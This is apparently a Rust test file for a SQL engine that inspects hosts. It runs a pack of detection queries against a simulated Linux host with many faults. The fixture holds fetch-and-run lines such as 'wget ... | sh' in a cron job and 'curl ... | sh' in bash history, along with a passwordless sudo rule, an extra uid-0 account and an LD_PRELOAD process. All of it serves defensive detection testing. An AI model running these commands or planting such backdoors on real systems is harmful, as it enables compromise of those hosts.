//! What an analyst types: the questions of `queries.sql`, over every table, on a recorded host and on the one below this test.
#![allow(clippy::unwrap_used, clippy::panic)] // a failing test may end

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use regex::Regex;
use rusqlite::types::Value as Cell;
use tables::{Engine, Host, Limits, Parameters, Table, Value};

mod made;

use made::Made;

const QUERIES: &str = concat!(include_str!("queries.sql"), include_str!("windows.sql"));

/// As many as there must be.
const AT_LEAST: usize = 250;

/// A question may be costly for the host, not for whoever waits for a test.
const PATIENCE: Duration = Duration::from_secs(20);

/// Tables whose rows come from a walk of the whole file system, too much for this host in a test.
const WALKED: [&str; 2] = ["suid_bin", "unusual_files"];

/// The questions by name.
fn queries() -> BTreeMap<&'static str, String> {
    let mut queries: BTreeMap<&str, String> = BTreeMap::new();
    let mut name = None;
    for line in QUERIES.lines().filter(|line| !line.is_empty()) {
        if let Some(comment) = line.strip_prefix("-- ") {
            let is_name =
                comment.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'_');
            name = if is_name { Some(comment) } else { None };
            continue;
        }
        let name = name.take().unwrap_or_else(|| panic!("a query has no name: {line}"));
        assert!(line.ends_with(';'), "{name} does not end");
        assert!(queries.insert(name, line.to_owned()).is_none(), "{name} is there twice");
    }
    queries
}

/// The tables that a question reads.
fn tables_of(sql: &str) -> Vec<&'static str> {
    let places = Regex::new(r"(?i)\b(?:from|join)\s+([a-z_0-9]+)").unwrap();
    let named: Vec<String> = places.captures_iter(sql).map(|found| found[1].to_lowercase()).collect();
    Engine::tables().iter().map(|table| table.name).filter(|table| named.iter().any(|name| name == table)).collect()
}

#[test]
fn there_are_enough_questions_and_no_table_is_left_out() {
    let queries = queries();
    assert!(queries.len() >= AT_LEAST, "{} of {AT_LEAST} queries", queries.len());
    let asked: Vec<&str> = queries.values().flat_map(|sql| tables_of(sql)).collect();
    let missing: Vec<&str> =
        Engine::tables().iter().map(|table| table.name).filter(|table| !asked.contains(table)).collect();
    assert!(missing.is_empty(), "queries.sql asks nothing of: {}", missing.join(", "));
}

/// Runs the questions; what fails, and what takes too long.
fn failures(engine: &Engine, may_ask: impl Fn(&str) -> bool) -> Vec<String> {
    let mut failures = Vec::new();
    for (name, sql) in queries().iter().filter(|(_, sql)| may_ask(sql)) {
        let started = Instant::now();
        if let Err(error) = engine.query(sql, &Parameters::new()) {
            failures.push(format!("{name}: {error}\n  {sql}"));
        }
        if started.elapsed() > PATIENCE {
            failures.push(format!("{name} took {:?}", started.elapsed()));
        }
    }
    failures
}

#[test]
fn every_question_is_answered_by_a_recorded_host() {
    let host = recorded();
    for engine in [host.running(), host.image()] {
        let failures = failures(&engine, |_| true);
        assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    }
}

#[test]
fn every_question_is_answered_by_this_host() {
    let engine = Engine::open(Host::running(), Limits::default()).unwrap();
    let failures = failures(&engine, |sql| tables_of(sql).iter().all(|table| !WALKED.contains(table)));
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn answers_of_a_recorded_host_are_the_same_each_time() {
    let host = recorded();
    let (first, second) = (host.image(), host.image());
    for (name, sql) in queries().iter().filter(|(_, sql)| !tables_of(sql).contains(&"time")) {
        let [one, other] = [&first, &second].map(|engine| engine.query(sql, &Parameters::new()).unwrap().rows);
        assert_eq!(one, other, "{name}");
    }
}

/// What SQLite answers to the same question from ordinary tables with the same rows; none where a table shows nothing
/// without a condition, or the question calls a function of ours.
fn answer_of_plain_tables(engine: &Engine, sql: &str) -> Option<Vec<String>> {
    let named = tables_of(sql);
    let tables: Vec<&Table> = Engine::tables().iter().copied().filter(|table| named.contains(&table.name)).collect();
    if tables.iter().any(|table| table.required().next().is_some()) {
        return None;
    }
    let plain = rusqlite::Connection::open_in_memory().unwrap();
    for table in tables {
        let columns: Vec<String> = table.columns.iter().map(|column| format!("\"{}\"", column.name)).collect();
        let typed: Vec<String> =
            table.columns.iter().map(|column| format!("\"{}\" {}", column.name, column.kind.sql())).collect();
        plain.execute_batch(&format!("CREATE TABLE \"{}\" ({})", table.name, typed.join(", "))).unwrap();
        let places = vec!["?"; columns.len()].join(", ");
        let insert = format!("INSERT INTO \"{}\" VALUES ({places})", table.name);
        let all = made::ask(engine, &format!("SELECT {} FROM \"{}\"", columns.join(", "), table.name));
        for row in all.rows {
            let cells = row.into_iter().map(|value| match value {
                Value::Null => Cell::Null,
                Value::Integer(number) => Cell::Integer(number),
                Value::Real(number) => Cell::Real(number),
                Value::Text(text) => Cell::Text(text),
            });
            plain.execute(&insert, rusqlite::params_from_iter(cells)).unwrap();
        }
    }
    let mut statement = match plain.prepare(sql) {
        Err(error) if error.to_string().contains("no such function") => return None,
        prepared => prepared.unwrap(),
    };
    let count = statement.column_count();
    let mut rows = statement.query([]).unwrap();
    let mut lines = Vec::new();
    while let Some(row) = rows.next().unwrap() {
        let cells = (0..count).map(|position| match row.get::<_, Cell>(position).unwrap() {
            Cell::Null | Cell::Blob(_) => String::new(),
            Cell::Integer(number) => number.to_string(),
            Cell::Real(number) => number.to_string(),
            Cell::Text(text) => text,
        });
        lines.push(cells.collect::<Vec<_>>().join("|"));
    }
    lines.sort_unstable();
    Some(lines)
}

#[test]
fn where_a_table_is_read_several_times_the_answer_is_that_of_an_ordinary_table() {
    let host = recorded();
    let engine = host.running();
    let mut compared = 0;
    for (name, sql) in queries() {
        let is_read_again = [" OR ", "FULL JOIN", "RIGHT JOIN"].iter().any(|word| sql.contains(word));
        if !is_read_again || sql.contains(" LIMIT ") {
            continue;
        }
        let Some(expected) = answer_of_plain_tables(&engine, &sql) else { continue };
        let mut found = made::lines(&made::ask(&engine, &sql));
        found.sort_unstable();
        assert_eq!(found, expected, "{name}: {sql}");
        compared += 1;
    }
    assert!(compared >= 15, "{compared}");
}

#[test]
fn what_a_pack_looks_for_is_found() {
    let host = recorded();
    let engine = host.running();
    let queries = queries();
    for (name, expected) in [
        ("account_with_uid_0_beside_root", "toor|/bin/sh|/root"),
        ("accounts_that_share_an_id", "0|2|root, toor"),
        ("account_with_an_empty_password", "eve"),
        ("sudo_without_a_password", "/etc/sudoers.d/eve|eve|ALL=(ALL) NOPASSWD: ALL"),
        ("commands_that_fetch_and_run", "eve|curl -s http://198.51.100.7/x | sh"),
        ("keys_with_forced_commands", "1001|command=\"/bin/backup\"|backup@host"),
        ("jobs_of_cron_that_fetch", "root wget -q http://198.51.100.7/m -O- | sh|/etc/cron.d/m"),
        ("root_logs_in_over_ssh", "yes|/etc/ssh/sshd_config"),
        ("modules_that_are_forbidden_but_loaded", "usb_storage|/etc/modprobe.d/cis.conf"),
        ("names_of_shops_and_updates_that_are_redirected", "203.0.113.9|ftp.debian.org"),
        ("package_older_than_its_repair", "openssl|3.0.14-1~deb12u2"),
        ("either_of_two_vulnerable_packages", "openssl"),
        ("either_of_two_vulnerable_packages", "sudo"),
        ("accounts_and_their_groups_on_both_sides", "|sudo"),
        ("process_without_a_file_on_disk", "7|x|/tmp/x|/tmp/x -c"),
        ("process_with_a_preloaded_library", "7|x|/tmp/l.so"),
        ("arrays_that_lack_a_disk", "md0|2|1|12.6% (37043392/292945152)"),
        ("limits_that_are_missing", "cpu|unlimited|unlimited"),
        ("extensions_of_editors", "eve|ms-python.python|2024.1.0|vscode"),
        ("scripts_of_extensions_in_all_pages", "abcdef|x.js|<all_urls>"),
        ("packages_of_apk_by_origin", "musl|1"),
        ("packages_of_arch", "bash|5.2-1|explicit"),
        ("snaps_that_are_not_confined", "tool|1.0|classic|latest/stable"),
        ("applications_of_flatpak", "org.x.App|46.1|system|org.x.Platform/x86_64/46"),
        ("packages_of_gentoo", "sys-apps/portage|3.0.30-r1|0"),
        ("keywords_of_gentoo", "dev-lang/rust|~amd64"),
        ("modules_of_memory", "DIMM 0|ACME|X-1|8192|3200"),
        ("texts_of_the_maker", "0x0B00|1|made here"),
    ] {
        let output = made::ask(&engine, &queries[name]);
        assert!(made::lines(&output).contains(&expected.to_owned()), "{name}: {:?}", made::lines(&output));
    }
}

/// A structure of the firmware: its fixed part, then its texts.
fn structure(kind: u8, handle: u16, fields: &[(usize, &[u8])], length: usize, texts: &[&str]) -> Vec<u8> {
    let mut header = vec![0; length];
    header[0] = kind;
    header[1] = u8::try_from(length).unwrap();
    header[2..4].copy_from_slice(&handle.to_le_bytes());
    for (at, bytes) in fields {
        header[*at..at + bytes.len()].copy_from_slice(bytes);
    }
    for text in texts {
        header.extend(text.as_bytes());
        header.push(0);
    }
    header.push(0);
    if texts.is_empty() {
        header.push(0);
    }
    header
}

/// A host on which much is wrong.
fn recorded() -> Made {
    let firmware = [
        structure(11, 0x0b00, &[(4, &[1])], 5, &["made here"]),
        structure(
            16,
            0x1000,
            &[(4, &[3, 3, 3]), (7, &[0, 0, 0, 1]), (0x0b, &[0xff, 0xff]), (0x0d, &[1, 0])],
            0x17,
            &[],
        ),
        structure(
            17,
            0x1100,
            &[
                (4, &[0, 0x10]),
                (0x0c, &[0, 0x20]),
                (0x0e, &[9, 0, 1, 0, 0x1a]),
                (0x15, &[0x80, 0x0c]),
                (0x17, &[2]),
                (0x1a, &[3]),
            ],
            0x28,
            &["DIMM 0", "ACME", "X-1"],
        ),
        structure(19, 0x1300, &[(8, &[0xff, 0xff, 0x7f, 0]), (0x0c, &[0, 0x10, 1])], 0x1f, &[]),
        structure(127, 0x7f00, &[], 4, &[]),
    ]
    .concat();
    Made::new()
        .with("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nbob:x:1001:100::/home/bob:/bin/bash\neve:x:1002:100::/home/eve:/bin/sh\n")
        .with("/etc/group", "root:x:0:\nusers:x:100:\nsudo:x:27:bob\n")
        .with("/etc/shadow", "root:*:19000:0:99999:7:::\nbob:$1$a$b:12000:0:99999:7:::\neve::12000:0:99999:7:::\n")
        .with("/etc/login.defs", "PASS_MAX_DAYS 99999\nENCRYPT_METHOD MD5\n")
        .with("/etc/shells", "/bin/sh\n/bin/bash\n")
        .with("/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 ftp.debian.org\n")
        .with("/etc/resolv.conf", "nameserver 203.0.113.53\n")
        .with("/etc/services", "ssh 22/tcp\ntftp 69/udp\n")
        .with("/etc/protocols", "icmp 1 ICMP\ntcp 6 TCP\nudp 17 UDP\n")
        .with("/etc/os-release", "ID=debian\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\n")
        .with("/etc/fstab", "UUID=1 / ext4 defaults 0 1\ntmpfs /tmp tmpfs nosuid 0 0\n")
        .with("/etc/sudoers", "Defaults use_pty\n@includedir /etc/sudoers.d\n")
        .with("/etc/sudoers.d/eve", "eve ALL=(ALL) NOPASSWD: ALL\n")
        .with("/etc/ssh/sshd_config", "PermitRootLogin yes\n")
        .with("/etc/ssh/ssh_config", "Host *\n  StrictHostKeyChecking no\n")
        .with("/etc/pam.d/su", "auth sufficient pam_permit.so\n")
        .with("/etc/sysctl.d/x.conf", "kernel.randomize_va_space = 2\n")
        .with("/etc/modprobe.d/cis.conf", "install usb-storage /bin/false\n")
        .with("/etc/audit/rules.d/x.rules", "-w /etc/shadow -p wa -k identity\n-e 2\n")
        .with("/etc/default/grub", "GRUB_CMDLINE_LINUX=\"audit=1\"\n")
        .with("/etc/cron.d/m", "* * * * * root wget -q http://198.51.100.7/m -O- | sh\n")
        .with("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n[Install]\nWantedBy=multi-user.target\n")
        .with("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n")
        .with("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nName=x\nExec=/tmp/x\n")
        .with("/etc/apt/sources.list", "deb http://ftp.debian.org/debian bookworm main\n")
        .with("/etc/yum.repos.d/x.repo", "[x]\nname=x\nbaseurl=http://x\nenabled=1\ngpgcheck=0\n")
        .with("/var/lib/dpkg/status", "Package: openssl\nStatus: install ok installed\nVersion: 3.0.14-1~deb12u2\n\nPackage: sudo\nStatus: install ok installed\nVersion: 1.9.13p3-1\n")
        .with("/var/lib/dpkg/info/sudo.list", "/.\n/usr/bin/sudo\n")
        .with("/var/lib/dpkg/info/base-files.md5sums", "d41d8cd98f00b204e9800998ecf8427e  etc/hosts\n")
        .with("/lib/apk/db/installed", "P:musl\nV:1.2.5-r0\nA:x86_64\nI:667648\no:musl\n\n")
        .with("/var/lib/pacman/local/bash-5.2-1/desc", "%NAME%\nbash\n\n%VERSION%\n5.2-1\n\n%VALIDATION%\nsha256\n")
        .with("/var/lib/snapd/state.json", r#"{"data": {"snaps": {"tool": {"type": "app", "current": "7", "channel": "latest/stable", "sequence": [{"revision": "7", "snap-id": "x"}]}}}}"#)
        .with("/snap/tool/7/meta/snap.yaml", "name: tool\nversion: '1.0'\nconfinement: classic\n")
        .with("/var/lib/flatpak/app/org.x.App/x86_64/stable/c0ffee/metadata", "[Application]\nname=org.x.App\nruntime=org.x.Platform/x86_64/46\n")
        .with("/var/lib/flatpak/app/org.x.App/x86_64/stable/c0ffee/files/share/metainfo/org.x.App.metainfo.xml", "<component><name>App</name><releases><release date=\"x\" version=\"46.1\"/></releases></component>")
        .with_link("/var/lib/flatpak/app/org.x.App/x86_64/stable/active", "c0ffee")
        .with("/var/db/pkg/sys-apps/portage-3.0.30-r1/SLOT", "0\n")
        .with("/var/db/pkg/sys-apps/portage-3.0.30-r1/USE", "suid native\n")
        .with("/var/lib/portage/world", "sys-apps/portage\n")
        .with("/etc/portage/package.accept_keywords/rust", "dev-lang/rust ~amd64\n")
        .with("/usr/lib/python3/dist-packages/x-1.0.dist-info/METADATA", "Name: x\nVersion: 1.0\n")
        .with("/usr/lib/node_modules/x/package.json", r#"{"name": "x", "version": "1.0.0"}"#)
        .with("/home/bob/.ssh/authorized_keys", "command=\"/bin/backup\" ssh-ed25519 AAAA backup@host\n")
        .with("/home/eve/.bash_history", "curl -s http://198.51.100.7/x | sh\nunset HISTFILE\n")
        .with("/home/eve/.ssh/known_hosts", "host.example ssh-ed25519 AAAA\n")
        .with("/home/eve/.vscode/extensions/extensions.json", r#"[{"identifier": {"id": "ms-python.python", "uuid": "u"}, "version": "2024.1.0", "location": {"path": "/x"}, "metadata": {"publisherDisplayName": "Microsoft", "installedTimestamp": 1}}]"#)
        .with("/home/eve/.config/chromium/Default/Extensions/abcdef/1.0_0/manifest.json", r#"{"name": "x", "version": "1.0", "permissions": ["tabs"], "content_scripts": [{"js": ["x.js"], "matches": ["<all_urls>"]}]}"#)
        .with("/tmp/.hidden", "")
        .with("/proc/mdstat", "Personalities : [raid1]\nmd0 : active raid1 sdb1[2] sda1[0]\n      292945152 blocks super 1.2 [2/1] [U_]\n      [==>..]  recovery = 12.6% (37043392/292945152) finish=127.5min speed=33440K/sec\n\nunused devices: <none>\n")
        .with("/proc/modules", "usb_storage 1 0 - Live 0x0\n")
        .with("/proc/uptime", "100.0 50.0\n")
        .with("/proc/loadavg", "0.1 0.2 0.3 1/2 3\n")
        .with("/proc/meminfo", "MemTotal: 1000 kB\nMemFree: 500 kB\nMemAvailable: 700 kB\nSwapTotal: 0 kB\nSwapFree: 0 kB\n")
        .with("/proc/stat", "cpu 1 2 3 4 5 6 7 8 9 10\ncpu0 1 2 3 4 5 6 7 8 9 10\nbtime 1000000\n")
        .with("/proc/sys/kernel/randomize_va_space", "0\n")
        .with("/proc/1/limits", "Limit                     Soft Limit           Hard Limit           Units     \nMax cpu time              unlimited            unlimited            seconds   \n")
        .with("/proc/1/stat", "1 (init) S 0 1 1 0 -1 0 0 0 0 0 1 1 0 0 20 0 1 0 1 1000 5 0\n")
        .with("/proc/1/status", "Name:\tinit\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n")
        .with("/proc/7/stat", "7 (x) S 1 7 7 0 -1 0 0 0 0 0 1 1 0 0 20 0 1 0 1 1000 5 0\n")
        .with("/proc/7/status", "Name:\tx\nUid:\t1002\t1002\t1002\t1002\nGid:\t100\t100\t100\t100\n")
        .with("/proc/7/cmdline", "/tmp/x\0-c\0")
        .with("/proc/7/environ", "LD_PRELOAD=/tmp/l.so\0HOME=/\0")
        .with_link("/proc/7/exe", "/tmp/x (deleted)")
        .with("/sys/block/md0/md/raid_disks", "2\n")
        .with("/sys/block/md0/md/array_state", "clean\n")
        .with("/sys/block/md0/md/dev-sda1/state", "in_sync\n")
        .with("/sys/block/md0/md/dev-sda1/slot", "0\n")
        .with("/sys/block/md0/md/dev-sdb1/state", "faulty\n")
        .with("/sys/block/md0/md/dev-sdb1/slot", "none\n")
        .with("/sys/firmware/dmi/tables/DMI", firmware)
}
